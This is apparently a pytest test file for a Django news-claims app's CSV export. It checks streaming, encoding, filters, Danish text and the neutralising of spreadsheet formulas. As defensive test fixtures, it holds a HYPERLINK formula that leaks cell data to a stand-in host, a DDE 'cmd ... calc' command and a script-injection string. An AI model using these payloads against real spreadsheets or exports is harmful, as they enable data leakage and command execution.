"""CSV export: the claims list's selection, streamed, readable by Excel, and never a formula."""

import csv
import io

import pytest
from django.http import StreamingHttpResponse
from django.test import Client

from newsclaims import exports, selectors
from newsclaims.models import Claim, Claimant, Tag

pytestmark = pytest.mark.django_db

BELGOROD = "belgorod-incursion-2023-05"
HOSTILE = "</script><script>alert(1)</script>"


def download(client, query="") -> tuple[StreamingHttpResponse, bytes]:
    response = client.get("/claims.csv" + (f"?{query}" if query else ""))
    assert response.status_code == 200, response.content
    return response, b"".join(response.streaming_content)


def rows(raw: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_export_is_a_streamed_utf8_csv_attachment_with_a_bom(demo_data, client):
    response, raw = download(client)
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="newsclaims-claims-')
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\xef\xbb\xbf") == 1


def test_header_names_every_column(demo_data, client):
    _, raw = download(client)
    header = next(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert header == list(exports.COLUMNS)
    assert header[:3] == ["id", "claimant", "claimant party"] and header[-1] == "claim page URL"


def test_export_holds_the_claims_list_selection_in_its_order(demo_data, client):
    _, raw = download(client)
    assert [int(r["id"]) for r in rows(raw)] == [c.pk for c in selectors.claim_list()]


def test_export_takes_the_list_pages_filters(demo_data, client):
    _, raw = download(client, f"event={BELGOROD}&category=killed")
    exported = rows(raw)
    assert [int(r["id"]) for r in exported] == [c.pk for c in selectors.claim_list(event=BELGOROD, category="killed")]
    assert exported and {r["event"] for r in exported} == {"Belgorod incursion"}
    assert {r["category"] for r in exported} == {"killed"}


def test_export_takes_the_free_text_search_in_its_order(demo_data, client):
    _, raw = download(client, "q=Kapustin")
    exported = [int(r["id"]) for r in rows(raw)]
    assert exported == [c.pk for c in selectors.claim_list(q="Kapustin")]
    assert exported


def test_danish_characters_round_trip(demo_data, client):
    claim = Claim.objects.filter(article__language="da", evidence__contains="å").first()
    assert claim is not None, "the demo has a Danish claim with å"
    claim.victims = "ukrainske nationalister på grænsen, blæst væk: æøå ÆØÅ"
    claim.save()
    _, raw = download(client)
    row = next(r for r in rows(raw) if int(r["id"]) == claim.pk)
    assert row["evidence"] == claim.evidence
    assert row["victims"] == "ukrainske nationalister på grænsen, blæst væk: æøå ÆØÅ"
    assert row["article title"] == claim.article.title


def test_a_row_carries_the_figure_its_article_and_the_claim_page(demo_data, client):
    claim = Claim.objects.get(event__slug=BELGOROD, category="killed", claimant_party__name="Russia",
                              article__language="da")
    claim.tags.set(Tag.objects.filter(name__in=["Belgorod", "cross-border raid"]))
    _, raw = download(client)
    row = next(r for r in rows(raw) if int(r["id"]) == claim.pk)
    assert (row["low"], row["high"], row["qualifier"], row["vague"]) == ("70", "", "more_than", "false")
    assert row["number as written"] == "mere end 70"
    assert row["claimant"] == claim.claimant.name and row["claimant party"] == "Russia"
    assert row["outlet"] == claim.article.outlet.name and row["published"] == "2023-05-24"
    assert row["url"] == claim.article.url
    assert row["status"] == claim.status
    assert row["tags"] == "Belgorod; cross-border raid"
    assert row["claim page URL"] == f"http://testserver/claims/{claim.pk}/"


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_could_start_a_formula_are_neutralised(demo_data, client, trigger):
    claim = Claim.objects.first()
    payload = f'{trigger}HYPERLINK("http://evil.invalid/?"&A1,"click")'
    claim.evidence = payload
    claim.victims = trigger + "1+2"
    claim.claimant_text = trigger + "cmd|' /C calc'!A0"
    claim.claimant = None
    claim.save()
    _, raw = download(client)
    row = next(r for r in rows(raw) if int(r["id"]) == claim.pk)
    assert row["evidence"] == "'" + payload
    assert row["victims"] == "'" + trigger + "1+2"
    assert row["claimant"] == "'" + trigger + "cmd|' /C calc'!A0"
    for value in row.values():
        assert not value.startswith(exports.FORMULA_TRIGGERS), value


def test_danish_dialogue_dash_is_kept_after_the_apostrophe(demo_data, client):
    claim = Claim.objects.first()
    claim.evidence = "- Jeg tror, at I kommer til at se os igen, siger han."
    claim.save()
    _, raw = download(client)
    row = next(r for r in rows(raw) if int(r["id"]) == claim.pk)
    assert row["evidence"] == "'- Jeg tror, at I kommer til at se os igen, siger han."


def test_ordinary_text_and_numbers_are_left_alone():
    assert exports.cell("Moskva siger 70") == "Moskva siger 70"
    assert exports.cell(70) == 70
    assert exports.cell(None) == ""
    assert exports.cell(True) == "true"
    assert exports.cell("a=b") == "a=b"


def test_hostile_text_stays_one_inert_cell(demo_data, client):
    claim = Claim.objects.first()
    claim.evidence = f'He said "{HOSTILE}",\nthen left; =1+1'
    claim.save()
    Claimant.objects.filter(pk=claim.claimant_id).update(name=HOSTILE)
    _, raw = download(client)
    exported = rows(raw)
    row = next(r for r in exported if int(r["id"]) == claim.pk)
    assert row["evidence"] == claim.evidence
    assert row["claimant"] == HOSTILE
    assert all(len(r) == len(exports.COLUMNS) for r in exported)


def test_rejected_claims_are_left_out_unless_asked_for(demo_data, client):
    claim = Claim.objects.first()
    claim.status = Claim.Status.REJECTED
    claim.save()
    _, default = download(client)
    _, included = download(client, "include_rejected=true")
    assert claim.pk not in [int(r["id"]) for r in rows(default)]
    rejected_row = next(r for r in rows(included) if int(r["id"]) == claim.pk)
    assert rejected_row["status"] == "rejected"


def test_an_invalid_filter_is_a_400_that_says_which(demo_data, client):
    response = client.get("/claims.csv?event=no-such-event")
    assert response.status_code == 400
    assert "event" in response.content.decode()


def test_export_queries_do_not_grow_with_the_number_of_claims(demo_data, django_assert_max_num_queries):
    client = Client()
    with django_assert_max_num_queries(6):
        _, raw = download(client)
    assert len(rows(raw)) >= 8


def test_only_get_is_allowed(demo_data, client):
    assert client.post("/claims.csv").status_code == 405
